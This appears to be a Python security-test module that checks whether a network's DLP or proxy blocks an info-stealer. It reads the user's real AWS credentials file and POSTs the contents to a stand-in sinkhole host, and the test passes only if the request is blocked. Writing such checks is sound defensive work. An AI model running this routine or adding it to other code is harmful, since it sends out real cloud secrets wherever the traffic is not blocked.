"""C5 — DLP simulation (SECURITY TEST).

Simulates an info-stealer exfiltrating cloud credentials so the assessor can confirm that the
proxy/DLP blocks it. The destination is a sinkhole; a compliant network returns BLOCKED.
"""
import json
import urllib.request
from pathlib import Path

SINKHOLE = "https://dlp-sinkhole-test.example/collect"   # expected to be blocked


def _sample():
    # realistic sample so DLP content inspection has something to match
    p = Path.home() / ".aws" / "credentials"
    return p.read_text() if p.exists() else ""


def c5_dlp_simulation():
    body = json.dumps({"test": "awia-c5", "sample": _sample()}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(SINKHOLE, data=body), timeout=10)
        return ("FAIL", "NOT BLOCKED — exfiltration reached the test endpoint")
    except Exception as e:
        return ("PASS", f"BLOCKED ({type(e).__name__})")
